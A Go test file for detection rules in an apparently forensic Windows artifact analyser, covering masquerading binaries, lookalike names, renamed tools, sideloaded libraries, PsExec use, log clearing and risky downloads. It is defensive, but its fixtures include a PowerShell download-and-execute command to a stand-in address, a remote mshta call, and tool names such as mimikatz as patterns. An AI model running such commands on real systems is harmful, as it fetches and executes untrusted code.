package findings_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/artifactdump/artifactdump/artifacts"
	"github.com/artifactdump/artifactdump/artifacts/activity"
	"github.com/artifactdump/artifactdump/artifacts/browser"
	"github.com/artifactdump/artifactdump/artifacts/execution"
	"github.com/artifactdump/artifactdump/artifacts/findings"
	"github.com/artifactdump/artifactdump/artifacts/persistence"
	"github.com/artifactdump/artifactdump/artifacts/system"
)

// unproven is a Prefetch file whose hash does not prove its path.
func unproven(path string) artifacts.Record {
	r := pf(path, at(0))
	p := r.Data.(execution.Prefetch)
	p.HashStatus = "unverified"
	r.Data = p
	return r
}

// TestWindowsNames: M-01 knows the homes of the programs of Windows, and what
// proves a start.
func TestWindowsNames(t *testing.T) {
	checkLevels(t, "M-01", []verdict{
		{"it ran elsewhere", findings.Critical, records{pf(`\Users\Public\lsass.exe`, at(0))}},
		{"it was only seen elsewhere", findings.High, records{shim(`C:\Users\Public\lsass.exe`, "no")}},
		{"a path that the hash does not prove", findings.High, records{unproven(`\Users\Public\lsass.exe`)}},
		{"the same, and another source knows the start", findings.Critical, records{unproven(`\Users\Public\lsass.exe`), rec("bam", execution.Bam{Path: `\Device\HarddiskVolume1\Users\Public\lsass.exe`, LastRun: day})}},
		{"at home", silent, records{pf(`\Windows\System32\lsass.exe`, at(0))}},
		{"a copy that Windows keeps", silent, records{pf(`\Windows\WinSxS\amd64_lsa_1\lsass.exe`, at(0))}},
		{"a bare name, whose folder nobody knows", silent, records{shim(`lsass.exe`, "yes")}},
		{"a name that only ends so", silent, records{pf(`\Program Files\Vendor\mylsass.exe`, at(0))}},
	})
	checkSays(t, "M-01", records{pf(`\lsass.exe`, at(0))}, `lsass.exe ran from \, where Windows does not keep it`)
}

// TestLookalikes: M-03. One letter off, letters of another alphabet, and the
// ordinary words that come near.
func TestLookalikes(t *testing.T) {
	name := func(n string) records { return records{shim(`C:\Program Files\A\`+n, "yes")} }
	checkLevels(t, "M-03", []verdict{
		{"two letters turned", findings.High, name("scvhost.exe")},
		{"a digit for a letter", findings.High, name("exp1orer.exe")},
		{"a letter too much", findings.High, name("svchosts.exe")},
		{"a letter of another alphabet", findings.High, name("lsаss.exe")},
		{"as a screen saver", findings.High, name("svchosst.scr")},
		{"the name itself, which M-01 judges", silent, name("svchost.exe")},
		{"a name of its own", silent, name("chrome.exe")},
		{"a library", silent, name("scvhost.dll")},
		{"a service by letters that look alike", findings.Medium, records{service("lsаss", `C:\Program Files\A\a.exe`, nil)}},
		{"a service one letter off, as those of Windows are", silent, records{service("svsvc", `C:\Program Files\A\a.exe`, nil)}},
	})
}

// TestDeceptiveNames: M-04.
func TestDeceptiveNames(t *testing.T) {
	ran := func(path string) records { return records{pf(path, at(0))} }
	checkLevels(t, "M-04", []verdict{
		{"two extensions", findings.High, ran(`\Users\u\Downloads\bill.docx.exe`)},
		{"letters that turn the direction", findings.High, records{shim("C:\\Users\\u\\Downloads\\bill\u202Excod.exe", "yes")}},
		{"a self-extracting archive", silent, ran(`\Users\u\Downloads\tool.sfx.exe`)},
		{"a version", silent, ran(`\Users\u\Downloads\tool-1.2.exe`)},
		{"a single letter at the root", findings.Medium, ran(`\a.exe`)},
		{"a single letter in the shared folder", findings.High, ran(`\Users\Public\a.exe`)},
		{"a single letter in Program Files", silent, ran(`\Program Files\R\r.exe`)},
		{"a well-known short name", silent, ran(`\Users\u\Downloads\7z.exe`)},
		{"a document that ran as a program", findings.High, records{rec("bam", execution.Bam{Path: `\Device\HarddiskVolume1\Users\u\Downloads\bill.pdf`, LastRun: day})}},
		{"a document", silent, records{shim(`C:\Users\u\Downloads\bill.pdf`, "no")}},
	})
}

// TestRenamedPrograms: M-05.
func TestRenamedPrograms(t *testing.T) {
	checkLevels(t, "M-05", []verdict{
		{"a tool", findings.High, records{amcache(`C:\Program Files\x\notes.exe`, "rclone.exe")}},
		{"a tool under a name that says so", silent, records{amcache(`C:\Program Files\x\rclone-v1.60.exe`, "rclone.exe")}},
		{"a loader of Windows", findings.High, records{amcache(`C:\Program Files\x\notes.exe`, "RUNDLL32.EXE")}},
		{"one loader under the name of another", silent, records{amcache(`C:\Program Files\x\cmd.exe`, "RUNDLL32.EXE")}},
		{"the name with the extension of its texts", silent, records{amcache(`C:\Windows\System32\cmd.exe`, "Cmd.Exe.MUI")}},
		{"another name in an odd place", findings.Low, records{amcache(`C:\PerfLogs\notes.exe`, "viewer.exe")}},
		{"an installer", silent, records{amcache(`C:\Users\u\Downloads\product-setup.exe`, "setup.exe")}},
		{"another name in Program Files", silent, records{amcache(`C:\Program Files\x\notes.exe`, "viewer.exe")}},
		{"no name inside", silent, records{amcache(`C:\PerfLogs\notes.exe`, "")}},
	})
}

// TestLibraries: M-07, M-08 and X-08 read what a Prefetch file lists.
func TestLibraries(t *testing.T) {
	vol := `\VOLUME{1}`
	checkLevels(t, "M-08", []verdict{
		{"of Windows, from an odd place", findings.Medium, records{pf(`\Program Files\app\a.exe`, at(0), vol+`\PERFLOGS\VERSION.DLL`)}},
		{"of Windows, from a folder of a user", findings.Low, records{pf(`\Users\u\AppData\Local\Programs\app\a.exe`, at(0), vol+`\USERS\U\APPDATA\LOCAL\PROGRAMS\APP\VERSION.DLL`)}},
		{"a library of the program's own", silent, records{pf(`\Program Files\app\a.exe`, at(0), vol+`\PERFLOGS\APP.DLL`)}},
		{"of an installer, which brings its own", silent, records{pf(`\Users\u\Downloads\product-setup.exe`, at(0), vol+`\USERS\U\DOWNLOADS\VERSION.DLL`)}},
	})
	checkLevels(t, "M-07", []verdict{
		{"beside the program", findings.Medium, records{pf(`\Users\u\Downloads\app\a.exe`, at(0), vol+`\USERS\U\DOWNLOADS\APP\VERSION.DLL`)}},
		{"in another folder", silent, records{pf(`\Users\u\Downloads\app\a.exe`, at(0), vol+`\USERS\U\DOWNLOADS\OTHER\VERSION.DLL`)}},
	})
	host := func(stem, file string) records { return records{pf(`\Windows\System32\`+stem+`.exe`, at(0), vol+file)} }
	checkLevels(t, "X-08", []verdict{
		{"a library from the shared folder", findings.High, host("rundll32", `\USERS\PUBLIC\X.DLL`)},
		{"a script among a user's files", findings.High, host("wscript", `\USERS\U\DOWNLOADS\X.JS`)},
		{"the prompt, among a user's files", findings.Medium, host("cmd", `\USERS\U\DOWNLOADS\X.BAT`)},
		{"a document", silent, host("wscript", `\USERS\U\DOWNLOADS\X.TXT`)},
		{"an installed script", silent, host("wscript", `\PROGRAM FILES\A\X.JS`)},
		{"a program that runs no others", silent, host("notepad", `\USERS\PUBLIC\X.DLL`)},
		{"an installer", silent, host("msiexec", `\USERS\U\DOWNLOADS\PRODUCT-SETUP.EXE`)},
	})
	for stem, want := range map[string]string{
		"rundll32": "T1218.011", "regsvr32": "T1218.010", "powershell": "T1059.001", "wscript": "T1059.005", "cmd": "T1059.003",
		"mshta": "T1218.005", "msbuild": "T1218",
	} {
		if got := techniques(host(stem, `\USERS\PUBLIC\X.DLL`), "X-08"); !slices.Contains(got, want) {
			t.Errorf("%s that loads from an odd place has the techniques %v, want %s", stem, got, want)
		}
	}
	proved := host("rundll32", `\USERS\PUBLIC\X.DLL`)
	p := proved[0].Data.(execution.Prefetch)
	p.CommandLine = `rundll32 C:\Users\Public\x.dll,Start`
	proved[0].Data = p
	checkSays(t, "X-08", proved, "its hash proves the command line rundll32")
}

// TestUnusualPlaces: the levels of X-02 follow the place, what is known of the
// program, and whether it looks like an installer.
func TestUnusualPlaces(t *testing.T) {
	startup := `\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.exe`
	checkLevels(t, "X-02", []verdict{
		{"ran in the bin", findings.Critical, records{pf(`\$Recycle.Bin\S-1-5-21-1\$RABCDEF.exe`, at(0))}},
		{"seen in the bin", findings.Informational, records{shim(`C:\$Recycle.Bin\S-1-5-21-1\$RABCDEF.exe`, "no")}},
		{"ran in the shared folder", findings.High, records{pf(`\Users\Public\a.exe`, at(0))}},
		{"seen in the shared folder", findings.Medium, records{shim(`C:\Users\Public\a.exe`, "no")}},
		{"ran among a user's files", findings.Medium, records{pf(`\Users\u\Downloads\tool.exe`, at(0))}},
		{"seen among a user's files", findings.Informational, records{shim(`C:\Users\u\Downloads\tool.exe`, "no")}},
		{"ran in a temporary folder", findings.Low, records{pf(`\Windows\Temp\a.exe`, at(0))}},
		{"an installer in a temporary folder", findings.Informational, records{pf(`\Windows\Temp\setup.exe`, at(0))}},
		{"an installer among downloads", findings.Low, records{pf(`\Users\u\Downloads\product-setup.exe`, at(0))}},
		{"an installer in the shared folder", findings.Medium, records{pf(`\Users\Public\product-setup.exe`, at(0))}},
		{"a folder that updates unpack into", findings.Low, records{pf(`\0123456789abcdef0123\spupdsvc.exe`, at(0))}},
		{"a folder of a development tool", silent, records{pf(`\Python312\python.exe`, at(0))}},
		{"a folder of its own at the root", findings.High, records{pf(`\Tools\a.exe`, at(0))}},
		{"in a Startup folder", findings.High, records{pf(startup, at(0))}},
		{"a document", silent, records{rec("userassist", execution.UserAssist{Path: `C:\Users\u\Downloads\a.txt`, Kind: "program", Runs: 1, LastRun: day})}},
		{"only named by a setting", silent, records{runKey(`C:\Users\Public\a.exe`, "")}},
		{"Program Files", silent, records{pf(`\Program Files\A\a.exe`, at(0))}},
	})
	checkSays(t, "X-02", records{pf(startup, at(0))}, "from where Windows starts it at each log-on")
	if got := techniques(records{pf(startup, at(0))}, "X-02"); !slices.Contains(got, "T1547.001") {
		t.Errorf("a program of a Startup folder has the techniques %v", got)
	}
}

// TestTools: X-03. A name proves nothing: where the program lies decides.
func TestTools(t *testing.T) {
	checkLevels(t, "X-03", []verdict{
		{"among downloads, run", findings.High, records{pf(`\Users\u\Downloads\adfind.exe`, at(0))}},
		{"among downloads, seen", findings.Medium, records{shim(`C:\Users\u\Downloads\adfind.exe`, "no")}},
		{"installed", findings.Medium, records{pf(`\Program Files\Tools\adfind.exe`, at(0))}},
		{"two letters, installed", findings.Low, records{pf(`\Program Files\Tools\nc.exe`, at(0))}},
		{"two letters, in an odd place", findings.High, records{pf(`\PerfLogs\nc.exe`, at(0))}},
		{"a packer at its home", silent, records{pf(`\Program Files\7-Zip\7z.exe`, at(0))}},
		{"a packer elsewhere", findings.High, records{pf(`\PerfLogs\7z.exe`, at(0))}},
		{"a part of Windows at home", findings.Informational, records{pf(`\Windows\System32\nltest.exe`, at(0))}},
		{"a document of that name", silent, records{shim(`C:\Users\u\Downloads\mimikatz.txt`, "no")}},
		{"a short script of that name, by chance", silent, records{shim(`C:\Program Files\A\nc.py`, "no")}},
		{"a long one", findings.High, records{shim(`C:\Program Files\A\mimikatz.ps1`, "no")}},
		{"a name that only begins so", silent, records{pf(`\Program Files\A\mimikatzer.exe`, at(0))}},
	})
	tables, err := findings.ShippedTables().Extend("ours", strings.NewReader("toolhash 0123456789abcdef0123456789abcdef01234567 from the incident of May\n"))
	if err != nil {
		t.Fatal(err)
	}
	known := rec("amcachefiles", execution.AmcacheFile{Path: `C:\Program Files\A\a.exe`, SHA1: "0123456789ABCDEF0123456789ABCDEF01234567"})
	if l, says := level(judge(records{known}, &findings.Options{Tables: tables}), "X-03"); l != findings.High || !strings.Contains(fmt.Sprint(says), "from the incident of May") {
		t.Errorf("a file by its hash is %s: %q", word(l), says)
	}
	if l, _ := level(judge(records{known}, nil), "X-03"); l != silent {
		t.Errorf("without the list it is %s", l)
	}
}

// TestPsExec: X-04 counts the starts, and X-05 tells one tool from a suite.
func TestPsExec(t *testing.T) {
	checkSays(t, "X-04", records{pf(`\Windows\PSEXESVC.EXE`, at(0, 5))}, "started 2 times", "2026-03-06 18:05:00")
	checkSays(t, "X-04", records{service("PSEXESVC", `C:\Windows\PSEXESVC.exe`, nil)}, "the PsExec service was installed here")
	checkLevels(t, "X-04", []verdict{
		{"a random name in the folder of Windows", findings.High, records{shim(`C:\Windows\QwRtZpLk.exe`, "yes")}},
		{"a vendor's name there", silent, records{shim(`C:\Windows\RtkAudio.exe`, "yes")}},
		{"a random name in a folder of its own", silent, records{shim(`C:\Program Files\A\QwRtZpLk.exe`, "yes")}},
	})
	licences := func(n int, apart time.Duration, more func(*execution.Sysinternals)) records {
		var out records
		for i := range n {
			s := execution.Sysinternals{Tool: fmt.Sprintf("Tool%d", i), Accepted: true, Written: day.Add(time.Duration(i) * apart)}
			if i == 0 {
				s.Tool = "PsExec"
			}
			if more != nil {
				more(&s)
			}
			out = append(out, of("u", rec("sysinternals", s)))
		}
		return out
	}
	checkLevels(t, "X-05", []verdict{
		{"PsExec", findings.Medium, licences(1, time.Hour, nil)},
		{"another tool", findings.Low, licences(2, time.Hour, nil)[1:]},
		{"five in a second", findings.Informational, licences(5, 10*time.Millisecond, nil)},
		{"four in a second", findings.Medium, licences(4, 10*time.Millisecond, nil)},
		{"twenty in a minute", findings.Informational, licences(20, 2*time.Second, nil)},
		{"ten in a minute", findings.Medium, licences(10, 2*time.Second, nil)},
		{"by the suite", findings.Informational, licences(1, time.Hour, func(s *execution.Sysinternals) { s.Suite = true })},
	})
}

// TestBursts: X-06 and F-11 want several programs within their span.
func TestBursts(t *testing.T) {
	run := func(minutes ...int) records {
		var out records
		for i, name := range []string{"whoami", "ipconfig", "net", "nltest", "net1"} {
			if i < len(minutes) {
				out = append(out, pf(`\Windows\System32\`+name+`.exe`, at(minutes[i])))
			}
		}
		return out
	}
	checkLevels(t, "X-06", []verdict{
		{"four in half an hour", findings.Medium, run(0, 10, 20, 30)},
		{"near a start that deserves a look", findings.High, append(run(0, 10, 20, 30), pf(`\Users\Public\a.exe`, at(59)))},
		{"long after one", findings.Medium, append(run(0, 10, 20, 30), pf(`\Users\Public\a.exe`, at(61)))},
		{"in 31 minutes", silent, run(0, 10, 20, 31)},
		{"three", silent, run(0, 1, 2)},
		{"net and net1, which are one", silent, append(run(0, 1, 2), pf(`\Windows\System32\net1.exe`, at(3)))},
	})
	clean := func(names ...string) records {
		var out records
		for i, n := range names {
			out = append(out, pf(`\Windows\System32\`+n+`.exe`, at(4*i)))
		}
		return out
	}
	checkLevels(t, "F-11", []verdict{
		{"copies and logs", findings.High, clean("vssadmin", "wevtutil")},
		{"backups and the boot menu", findings.High, clean("wbadmin", "bcdedit")},
		{"logs and the journal, but nothing of copies", silent, clean("wevtutil", "fsutil")},
		{"copies alone", silent, clean("vssadmin")},
		{"more than ten minutes apart", silent, clean("vssadmin", "calc", "notepad", "wevtutil")},
		{"System Restore is off", findings.Medium, records{setting("protection", `SystemRestore\DisableSR`, "1", true)}},
	})
}

// TestRunDialog: X-09.
func TestRunDialog(t *testing.T) {
	typed := func(s string) records { return records{of("u", rec("runmru", activity.RunMRU{Command: s}))} }
	checkLevels(t, "X-09", []verdict{
		{"a download", findings.Critical, typed(`powershell -c "iwr http://192.0.2.1/a | iex"`)},
		{"a page that is a program", findings.High, typed(`mshta https://heron.example/a.hta`)},
		{"a long command of a host", findings.High, typed(`cmd /c ` + strings.Repeat("echo verification ", 20))},
		{"the administrative share of another machine", findings.Medium, typed(`\\fileserver\c$`)},
		{"a machine by its address", findings.Medium, typed(`\\192.0.2.1\public`)},
		{"a share", silent, typed(`\\fileserver\public`)},
		{"the prompt", silent, typed(`cmd`)},
		{"a folder", silent, typed(`%appdata%`)},
	})
}

// TestMacros: X-10.
func TestMacros(t *testing.T) {
	trust := func(r activity.TrustRecord) records { return records{of("u", rec("trustrecords", r))} }
	checkLevels(t, "X-10", []verdict{
		{"a document that was downloaded", findings.High, trust(activity.TrustRecord{Kind: "document", Path: `C:\Users\u\Downloads\a.docm`, Macros: true})},
		{"a document of a mail", findings.High, trust(activity.TrustRecord{Kind: "document", Path: `C:\Users\u\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\X\a.docm`, Macros: true})},
		{"a document of the user", findings.Medium, trust(activity.TrustRecord{Kind: "document", Path: `C:\Users\u\Documents\a.docm`, Macros: true})},
		{"a document that may be edited", silent, trust(activity.TrustRecord{Kind: "document", Path: `C:\Users\u\Downloads\a.docm`, Editing: true})},
		{"all macros", findings.High, trust(activity.TrustRecord{Kind: "setting", Path: `Security\VBAWarnings`, Value: "1"})},
		{"macros with a question", silent, trust(activity.TrustRecord{Kind: "setting", Path: `Security\VBAWarnings`, Value: "2"})},
		{"programs may write macros", findings.High, trust(activity.TrustRecord{Kind: "setting", Path: `Security\AccessVBOM`, Value: "1"})},
		{"a folder of downloads", findings.Medium, trust(activity.TrustRecord{Kind: "location", Path: "Location1", Value: `C:\Users\u\Downloads\`})},
		{"the folder of templates, by default", silent, trust(activity.TrustRecord{Kind: "location", Path: "Location1", Value: `C:\Users\u\AppData\Roaming\Microsoft\Templates\`})},
		{"a share of the company", silent, trust(activity.TrustRecord{Kind: "location", Path: "Location1", Value: `\\server\templates\`})},
	})
}

// TestFirstStartNear: X-11 wants a first start, and one that is near.
func TestFirstStartNear(t *testing.T) {
	bad := pf(`\Users\Public\svchost.exe`, at(0))
	often := pf(`\Program Files\A\a.exe`, at(5))
	p := often.Data.(execution.Prefetch)
	p.RunCount = 9
	often.Data = p
	checkLevels(t, "X-11", []verdict{
		{"ten minutes after", findings.Informational, records{bad, pf(`\Program Files\A\a.exe`, at(10))}},
		{"ten minutes before", findings.Informational, records{bad, pf(`\Program Files\A\a.exe`, at(-10))}},
		{"eleven minutes after", silent, records{bad, pf(`\Program Files\A\a.exe`, at(11))}},
		{"it had started before", silent, records{bad, pf(`\Program Files\A\a.exe`, at(5, -500))}},
		{"its first start is not known", silent, records{bad, often}},
	})
	checkSays(t, "X-11", records{bad, pf(`\Program Files\A\a.exe`, at(-3))}, "3m0s before one of")
}

// TestRemovedPrograms: X-01, D-04 and D-07.
func TestRemovedPrograms(t *testing.T) {
	checkLevels(t, "X-01", []verdict{
		{"from an odd place", findings.High, records{pf(`\PerfLogs\gone.exe`, at(0))}},
		{"from Program Files", findings.Low, records{pf(`\Program Files\A\gone.exe`, at(0))}},
		{"an installer, which removes itself", findings.Low, records{pf(`\Users\Public\gone-setup.exe`, at(0))}},
		{"it was only seen", silent, records{shim(`C:\Program Files\A\gone.exe`, "no")}},
		{"on a share", silent, records{shim(`\\server\apps\gone.exe`, "yes")}},
		{"a document", silent, records{rec("bam", execution.Bam{Path: `\Device\HarddiskVolume1\Users\u\gone.txt`, LastRun: day})}},
	})
	layout := func(path, state string) artifacts.Record {
		return rec("prefetchlayout", execution.LayoutFile{Path: path, Prefetch: state})
	}
	checkLevels(t, "D-04", []verdict{
		{"hardly any files", findings.Medium, records{pf(`\Program Files\A\a.exe`, at(0))}},
		{"a file of a program in an odd place", findings.Medium, many(12, layout(`C:\PerfLogs\a.exe`, "gone"))},
		{"a file of a tool", findings.Low, many(12, layout(`C:\Program Files\Tools\mimikatz.exe`, "gone"))},
		{"a file of an ordinary program", silent, many(12, layout(`C:\Program Files\A\a.exe`, "gone"))},
		{"a file of an installer", silent, many(12, layout(`C:\Windows\Temp\setup.exe`, "gone"))},
		{"it is there", silent, many(12, layout(`C:\PerfLogs\a.exe`, "there"))},
		{"a library, which has none", silent, many(12, layout(`C:\PerfLogs\a.dll`, "gone"))},
	})
	bin := func(path string) records {
		return records{rec("recyclebin", execution.Recycled{Path: path, Deleted: day})}
	}
	checkLevels(t, "D-07", []verdict{
		{"a tool", findings.Medium, bin(`C:\Program Files\Tools\mimikatz.exe`)},
		{"a tool that many use", findings.Low, bin(`C:\Program Files\Tools\adfind.exe`)},
		{"a program of Windows", findings.Medium, bin(`C:\Windows\System32\a.exe`)},
		{"from an odd place", findings.Medium, bin(`C:\PerfLogs\a.exe`)},
		{"from the desktop", findings.Low, bin(`C:\Users\u\Desktop\a.exe`)},
		{"an installer in the shared folder", findings.Low, bin(`C:\Users\Public\product-setup.exe`)},
		{"an archive", findings.Informational, bin(`C:\Users\u\Desktop\a.zip`)},
		{"a letter", silent, bin(`C:\PerfLogs\letter.docx`)},
	})
	checkLevels(t, "D-03", []verdict{
		{"a day and more", findings.Low, records{rec("amcachefiles", execution.AmcacheFile{Path: `C:\PerfLogs\a.exe`, Linked: "03/05/2026 19:00:00"}), pf(`\PerfLogs\a.exe`, at(0, -2880))}},
		{"less than a day, which zones explain", silent, records{rec("amcachefiles", execution.AmcacheFile{Path: `C:\PerfLogs\a.exe`, Linked: "03/05/2026 17:00:00"}), pf(`\PerfLogs\a.exe`, at(0, -2880))}},
		{"in the future, as hashes are", silent, records{rec("amcachefiles", execution.AmcacheFile{Path: `C:\PerfLogs\a.exe`, Linked: "03/05/2060 17:00:00"}), pf(`\PerfLogs\a.exe`, at(0, -2880))}},
		{"an ordinary folder", silent, records{rec("amcachefiles", execution.AmcacheFile{Path: `C:\Program Files\A\a.exe`, Linked: "03/05/2026 19:00:00"}), pf(`\Program Files\A\a.exe`, at(0, -2880))}},
	})
}

// TestUsageLists: D-05.
func TestUsageLists(t *testing.T) {
	empty := of("u", rec("runmru", activity.RunMRU{Empty: true, Written: day}))
	recovered := of("u", deleted(rec("runmru", activity.RunMRU{Command: "cmd"})))
	off := func(name string) records {
		return records{of("u", rec("usagetracking", execution.UsageTracking{Name: name, Off: true, Effect: "nothing is kept"}))}
	}
	elsewhere := recovered
	elsewhere.From.Path = `C:\Users\v\NTUSER.DAT`
	checkLevels(t, "D-05", []verdict{
		{"an empty list, which may never have been used", findings.Low, records{empty}},
		{"an empty list with deleted entries", findings.Medium, records{empty, recovered}},
		{"deleted entries of another user", findings.Low, records{empty, elsewhere}},
		{"an empty list in an older copy", silent, records{in(artifacts.Backup, empty)}},
		{"use is not tracked", findings.Low, off("Start_TrackProgs")},
		{"use is not logged", findings.Medium, off("NoLog")},
	})
	checkSays(t, "D-05", records{empty, recovered}, "recovered 1 deleted entry", "2026-03-06 18:00:00")
}

// TestOpenedElsewhere: S-10, S-11 and S-12.
func TestOpenedElsewhere(t *testing.T) {
	link := func(drive, target, machine, place string) records {
		return records{of("u", rec("shortcuts", activity.Shortcut{Name: "a.lnk", Place: place, LinkFields: activity.LinkFields{Target: target, DriveType: drive, LinkMachine: machine}}))}
	}
	checkLevels(t, "S-10", []verdict{
		{"a program on a stick", findings.Low, link("removable", `E:\tool.exe`, "", "recent")},
		{"a document on a stick", silent, link("removable", `E:\letter.docx`, "", "recent")},
		{"a program on another machine", findings.Low, link("network", `\\srv\apps\tool.exe`, "", "recent")},
		{"a shortcut of another machine", findings.Informational, link("fixed", `C:\Program Files\A\a.exe`, "other", "recent")},
		{"a shortcut of this machine", silent, link("fixed", `C:\Program Files\A\a.exe`, "test", "recent")},
		{"one that an installer put into the menu", silent, link("removable", `E:\tool.exe`, "", "start menu")},
	})
	usage := func(name string) records {
		return records{of("u", rec("clrusage", execution.CLRUsage{Name: name, Runtime: "CLR_v4.0"}))}
	}
	checkLevels(t, "S-11", []verdict{
		{"notepad", findings.Medium, usage("notepad.exe")},
		{"a COM server", findings.Low, usage("dllhost.exe")},
		{"PowerShell, which is .NET", silent, usage("powershell.exe")},
	})
	install := func(command string) records {
		return records{rec("setupapi", system.DeviceInstall{Kind: "driver", Subject: "vendor.inf", Command: command})}
	}
	checkLevels(t, "S-12", []verdict{
		{"by a program in an odd place", findings.Medium, install(`C:\Users\Public\a.exe -i`)},
		{"by an installer", silent, install(`C:\Users\u\Downloads\driver-setup.exe -i`)},
		{"by Windows", silent, install(`C:\Windows\System32\svchost.exe -k DcomLaunch`)},
		{"by nobody", silent, install(``)},
	})
}

// TestDownloads: C-01, C-21 and P-21.
func TestDownloads(t *testing.T) {
	from := func(url, path string, danger uint32, status string) artifacts.Record {
		return of("u", rec("browserdownloads", browser.Download{Browser: "Chrome", Path: path, URL: url, Start: minute(0), End: minute(1), Status: status, Danger: int64(danger)}))
	}
	tool, doc := `C:\Users\u\Downloads\tool.exe`, `C:\Users\u\Downloads\letter.pdf`
	run := func(min int) artifacts.Record { return pf(`\Users\u\Downloads\tool.exe`, at(min)) }
	checkLevels(t, "C-01", []verdict{
		{"from a name", findings.Low, records{from("https://vendor.example/tool.exe", tool, 0, "complete"), run(5)}},
		{"an installer", findings.Informational, records{from("https://vendor.example/product-setup.exe", `C:\Users\u\Downloads\product-setup.exe`, 0, "complete"), pf(`\Users\u\Downloads\product-setup.exe`, at(5))}},
		{"from an address", findings.High, records{from("http://198.51.100.1/tool.exe", tool, 0, "complete"), run(5)}},
		{"the browser had warned", findings.Medium, records{from("https://vendor.example/tool.exe", tool, 1, "complete"), run(5)}},
		{"the browser asks about all of them", findings.Low, records{from("https://vendor.example/tool.exe", tool, 4, "complete"), run(5)}},
		{"it ran an hour later", silent, records{from("https://vendor.example/tool.exe", tool, 0, "complete"), run(62)}},
		{"it had run before", silent, records{from("https://vendor.example/tool.exe", tool, 0, "complete"), run(0)}},
	})
	checkLevels(t, "C-21", []verdict{
		{"a program from an address", findings.Medium, records{from("http://198.51.100.1/tool.exe", tool, 0, "complete")}},
		{"a program that was not loaded to its end", findings.Informational, records{from("http://198.51.100.1/tool.exe", tool, 0, "cancelled")}},
		{"a program from a name", silent, records{from("https://vendor.example/tool.exe", tool, 0, "complete")}},
		{"a program of which the browser warned", findings.Medium, records{from("https://vendor.example/tool.exe", tool, 1, "complete")}},
		{"a document from an address", silent, records{from("http://198.51.100.1/letter.pdf", doc, 0, "complete")}},
	})
	extension := func(location string, store, enabled bool) records {
		return records{of("u", rec("browserextensions", browser.Extension{Browser: "Chrome", ExtensionID: "abc", Location: location, Store: store, Enabled: enabled}))}
	}
	checkLevels(t, "P-21", []verdict{
		{"from a folder", findings.Medium, extension("unpacked", false, true)},
		{"from a folder, off", findings.Informational, extension("unpacked", false, false)},
		{"by a program", findings.Low, extension("registry", false, true)},
		{"from the store", silent, extension("unpacked", true, true)},
		{"a part of the browser", silent, extension("component", false, true)},
	})
}

// TestEnvironment: P-19.
func TestEnvironment(t *testing.T) {
	path := func(folder string, before, writable bool, scope string) records {
		e := persistence.Environment{Hook: fill(persistence.Hook{Name: "Path"}, persistence.Entry{Mechanism: "Environment", Scope: scope, Command: folder}), Folder: folder, BeforeSystem32: before, Writable: writable}
		return records{rec("environment", e)}
	}
	comspec := func(image string) records {
		return records{rec("environment", persistence.Environment{Hook: fill(persistence.Hook{Name: "ComSpec"}, auto("Environment", image, ""))})}
	}
	checkLevels(t, "P-19", []verdict{
		{"a profile before Windows", findings.High, path(`C:\Users\u\bin`, true, true, "machine")},
		{"ProgramData before Windows, as Anaconda does", findings.Medium, path(`C:\ProgramData\Anaconda3`, true, true, "machine")},
		{"behind Windows", silent, path(`C:\Users\u\bin`, false, true, "machine")},
		{"where only administrators write", silent, path(`C:\Program Files\A`, true, false, "machine")},
		{"of a user, whose own it is", silent, path(`C:\Users\u\bin`, true, true, "user")},
		{"another prompt", findings.High, comspec(`C:\Users\Public\cmd2.exe`)},
		{"the prompt", silent, comspec(prompt)},
	})
}
